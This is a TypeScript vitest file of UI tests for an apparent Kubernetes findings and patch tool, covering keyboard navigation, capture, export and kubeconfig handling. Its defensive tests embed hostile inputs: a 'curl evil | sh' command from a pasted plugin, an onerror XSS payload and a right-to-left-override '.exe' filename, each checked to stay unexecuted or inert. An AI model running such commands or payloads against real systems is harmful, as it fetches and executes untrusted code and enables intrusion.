import { afterEach, describe, expect, it } from 'vitest';
import { problem } from '#contract/problem';
import { fail, ok } from '#contract/result';
import { progress } from '#renderer/dev/fixtures/capture.ts';
import { scenarioClient } from '#renderer/dev/fixtures/scenarios.ts';
import { snapshotOf } from '#renderer/dev/fixtures/snapshots.ts';
import { mount, type Page } from '#renderer/dev/mount.tsx';

let page: Page | undefined;

afterEach(async () => {
  await page?.close();
  page = undefined;
});

const s = '/s/prod-eu-1-20261124';

const open = async (...given: Parameters<typeof mount>): Promise<Page> => {
  page = await mount(...given);
  await page.until(() => page?.state() !== 'loading');
  return page;
};

describe('by keyboard', () => {
  it('j and k move, the address follows, Esc goes back', async () => {
    const p = await open(`${s}/findings?q=severity%3Acritical&open=*`, scenarioClient('loaded'));
    await p.key('j');
    expect(p.address()).toBe(`${s}/findings?q=severity%3Acritical&open=*`);
    await p.key('j');
    expect(p.address()).toBe(`${s}/findings/f-token?q=severity%3Acritical&open=*`);
    await p.key('j');
    expect(p.address()).toContain('/f-pod?');
    await p.key('k');
    expect(p.address()).toContain('/f-token?');
    await p.key('Escape');
    expect(p.address()).toBe(`${s}/findings?q=severity%3Acritical&open=*`);
  });

  it('Enter unfolds a group', async () => {
    const p = await open(`${s}/findings?q=ns:ci-runners`, scenarioClient('loaded'));
    await p.key('j');
    await p.key('Enter');
    expect(p.address()).toContain('open=');
    expect(await p.until(() => p.text().includes('hide 11'))).toBe(true);
    await p.key('Enter');
    expect(await p.until(() => p.text().includes('show 11'))).toBe(true);
  });

  it('slash goes to the filter, and letters typed there are text', async () => {
    const p = await open(`${s}/findings`, scenarioClient('loaded'));
    await p.key('/');
    const input = document.activeElement;
    expect(input?.tagName).toBe('INPUT');
    await p.key('j', input ?? undefined);
    await p.key('p', input ?? undefined);
    expect(p.address()).toBe(`${s}/findings`);
    await p.type('Filter the findings', 'clickhouse docker.io');
    expect(await p.until(() => p.address() === `${s}/findings?q=clickhouse+docker.io` && p.text().includes('1 of 38'))).toBe(
      true,
    );
    await p.type('Filter the findings', 'nosuchword');
    expect(await p.until(() => p.text().includes('0 of 38'))).toBe(true);
  });

  it('p puts a patch into the tray and takes it out', async () => {
    const p = await open(`${s}/findings/f-token`, scenarioClient('loaded'));
    await p.until(() => p.text().includes('Add to tray'));
    await p.key('p');
    expect(await p.until(() => p.text().includes('Take out of tray') && p.text().includes('in tray'))).toBe(true);
    await p.key('p');
    expect(await p.until(() => p.text().includes('Add to tray'))).toBe(true);
  });

  it('in a narrow window moving does not leave the list, Enter does', async () => {
    const p = await open(`${s}/findings?q=severity%3Acritical&open=*`, scenarioClient('loaded'), { width: 1024 });
    await p.key('j');
    await p.key('j');
    expect(p.address()).toBe(`${s}/findings?q=severity%3Acritical&open=*`);
    await p.key('Enter');
    expect(p.address()).toContain('/findings/f-token?');
    expect(p.text()).toContain('6 findings');
  });
});

describe('the flow', () => {
  it('a facet narrows and stands in the address', async () => {
    const p = await open(`${s}/findings`, scenarioClient('loaded'));
    await p.click('checkbox', 'Critical, 6');
    expect(await p.until(() => p.address() === `${s}/findings?q=severity%3Acritical` && p.text().includes('6 of 38'))).toBe(true);
  });

  it('dry-run on a click, once, then export of what is settled', async () => {
    const client = scenarioClient('loaded');
    const p = await open(`${s}/findings/f-token`, client);
    await p.until(() => p.text().includes('Add to tray'));
    await p.click('button', 'Add to tray');
    await p.click('link', 'Open tray');
    expect(await p.until(() => p.text().includes('Export 1 patch'))).toBe(true);
    expect(client.calls.some(({ name }) => name === 'patch.dryRun')).toBe(false);
    await p.click('button', 'Run as anna@example.org');
    expect(await p.until(() => p.text().includes('accepted'))).toBe(true);
    expect(client.calls.filter(({ name }) => name === 'patch.dryRun').map(({ input }) => input)).toEqual([
      { snapshot: 'prod-eu-1-20261124', finding: 'f-token' },
    ]);
    await p.click('button', 'Export 1 patch');
    await p.until(() => client.saved.length > 0);
    expect(client.saved).toEqual(['plumbline-patches.tar.gz']);
    expect(client.calls.findLast(({ name }) => name === 'patch.export')?.input).toEqual({
      snapshot: 'prod-eu-1-20261124',
      findings: ['f-token'],
    });
  });

  it('a capture starts from a context with its options, shows progress, and opens its findings', async () => {
    let finish: () => void = () => undefined;
    const client = scenarioClient('loaded', {
      'capture.result': () => new Promise(resolve => (finish = () => resolve(ok(snapshotOf())))),
    });
    const p = await open('/clusters?source=%2Fhome%2Fanna%2F.kube%2Fconfig&context=prod-eu-1', client);
    await p.type('Only these namespaces', 'shop, payments');
    await p.click('button', 'Capture prod-eu-1');
    expect(client.calls.find(({ name }) => name === 'capture.start')?.input).toEqual({
      context: { source: '/home/anna/.kube/config', name: 'prod-eu-1' },
      options: { namespaces: ['shop', 'payments'] },
    });
    expect(p.address()).toBe('/capture/c1');
    await p.act(() => client.emit({ type: 'capture.progress', progress }));
    expect(p.text()).toContain('12 of 24 resources answered');
    expect(p.text()).toContain('Needs your eye');
    expect(p.text()).toContain('429 with Retry-After: 2 s');
    expect(p.text()).toContain('58 findings so far');
    expect(p.text()).toContain('27 s, not complete');
    await p.click('button', 'Cancel, keep what was read');
    expect(client.calls.findLast(({ name }) => name === 'capture.cancel')?.input).toEqual({ captureId: 'c1' });
    await p.act(() => finish());
    expect(await p.until(() => p.find('link', 'Open findings') !== undefined)).toBe(true);
    await p.click('link', 'Open findings');
    expect(p.address()).toBe(`${s}/findings`);
  });

  it('a plugin of an imported file asks, and nothing runs before the answer', async () => {
    const client = scenarioClient('loaded');
    const p = await open('/clusters', client);
    await p.act(() =>
      client.emit({
        type: 'exec.question',
        question: 'q1',
        source: 'pasted',
        command: ['sh', '-c', 'curl evil | sh'],
        env: ['TOKEN'],
      }),
    );
    expect(p.find('dialog', '')?.textContent).toContain('sh -c "curl evil | sh"');
    expect(client.calls.some(({ name }) => name === 'exec.answer')).toBe(false);
    await p.click('button', 'Do not run it');
    expect(client.calls.findLast(({ name }) => name === 'exec.answer')?.input).toEqual({ question: 'q1', allow: false });
    expect(await p.until(() => !p.text().includes('curl evil'))).toBe(true);
  });

  it('a question that was asked before this page was open is asked here too', async () => {
    const question = { type: 'exec.question' as const, question: 'q0', source: 'pasted', command: ['login'], env: [] };
    const p = await open(
      '/clusters',
      scenarioClient('loaded', { 'exec.questions': () => ({ ok: true, value: { questions: [question] } }) }),
    );
    expect(await p.until(() => p.find('dialog', '')?.textContent?.includes('login') === true)).toBe(true);
    await p.click('button', 'Do not run it');
  });

  it('a question that nobody waits for any more goes', async () => {
    const client = scenarioClient('loaded');
    const p = await open('/clusters', client);
    await p.act(() => client.emit({ type: 'exec.question', question: 'q2', source: 'pasted', command: ['login'], env: [] }));
    expect(p.find('dialog', '')?.textContent).toContain('login');
    await p.act(() => client.emit({ type: 'exec.withdrawn', question: 'q2' }));
    expect(await p.until(() => p.find('dialog', '') === undefined)).toBe(true);
  });

  it('what is opened from outside is shown; why it cannot be is told', async () => {
    const client = scenarioClient('loaded');
    const p = await open('/clusters', client);
    await p.act(() => client.emit({ type: 'opened', snapshot: 's9', problem: null }));
    expect(await p.until(() => p.address().startsWith('/s/s9/findings'))).toBe(true);
    const problem = {
      code: 'bundle-invalid' as const,
      what: 'case.tar.gz is not a complete bundle.',
      why: 'It is truncated.',
      todo: 'Fetch it anew.',
    };
    await p.act(() => client.emit({ type: 'opened', snapshot: null, problem }));
    expect(await p.until(() => p.text().includes('case.tar.gz is not a complete bundle.'))).toBe(true);
  });

  it('a core that was restarted is told, and its questions go', async () => {
    const client = scenarioClient('loaded');
    const p = await open('/clusters', client);
    await p.act(() => client.emit({ type: 'exec.question', question: 'q3', source: 'pasted', command: ['login'], env: [] }));
    await p.act(() => client.emit({ type: 'core.restarted' }));
    expect(
      await p.until(
        () => p.text().includes('The core was restarted') && p.find('dialog', 'Run this program to log in?') === undefined,
      ),
    ).toBe(true);
  });

  it('the doctor tells each step', async () => {
    const p = await open('/clusters?source=%2Fhome%2Fanna%2F.kube%2Fconfig&context=prod-eu-1', scenarioClient('loaded'));
    await p.click('button', 'Check connection');
    expect(
      await p.until(() => ['SELF_SIGNED_CERT_IN_CHAIN', 'not tried', 'To mend it:'].every(text => p.text().includes(text))),
    ).toBe(true);
  });

  it('a pasted kubeconfig goes up as contents; what is wrong with it is told beside the field', async () => {
    const client = scenarioClient('loaded', {
      'contexts.add': () =>
        fail(
          problem('kubeconfig-invalid', {
            what: 'Line 2 is no mapping.',
            why: 'The text is no kubeconfig.',
            at: { line: 2, file: 'pasted' },
          }),
        ),
    });
    const p = await open('/clusters', client);
    await p.click('button', 'Add kubeconfigs');
    await p.type('Or paste its text', 'apiVersion: v1');
    await p.click('button', 'Add the text');
    await p.until(() => client.calls.some(({ name }) => name === 'upload.put'));
    const put = client.calls.find(({ name }) => name === 'upload.put')?.input;
    expect(JSON.stringify(put)).not.toContain('apiVersion');
    expect(JSON.stringify(put)).toContain(btoa('apiVersion: v1'));
    expect(await p.until(() => p.text().includes('Line 2 is no mapping.') && p.text().includes('pasted, line 2'))).toBe(true);
  });

  it('the demo opens from the start page', async () => {
    const p = await open('/', scenarioClient('loaded'));
    await p.click('button', 'Explore the demo');
    expect(await p.until(() => p.address() === '/s/demo/findings')).toBe(true);
  });
});

describe('a hostile cluster', () => {
  it('is text, with what is hidden made visible', async () => {
    const p = await open(`${s}/findings/f-hostile`, scenarioClient('loaded'));
    expect(await p.until(() => p.text().includes('<img src=x onerror=alert(1)> [U+202E]gnp.exe[U+200B]'))).toBe(true);
    expect(document.querySelector('img')).toBeNull();
    expect(document.querySelector('script')).toBeNull();
    expect(p.text()).toContain('__proto__');
    expect(p.text()).toContain('[U+001B][31mred');
    expect(document.body.innerHTML).not.toContain('\u202e');
  });

  it('a claim of five million characters is bounded', async () => {
    const base = scenarioClient('loaded');
    const client = scenarioClient('loaded', {
      'findings.get': async input => {
        const reply = await base.call('findings.get', input);
        return reply.ok ? ok({ ...reply.value, finding: { ...reply.value.finding, message: 'x'.repeat(5_000_000) } }) : reply;
      },
    });
    const p = await open(`${s}/findings/f-token`, client);
    expect(await p.until(() => p.text().includes('more characters'))).toBe(true);
    expect(p.text().length).toBeLessThan(100_000);
  });
});
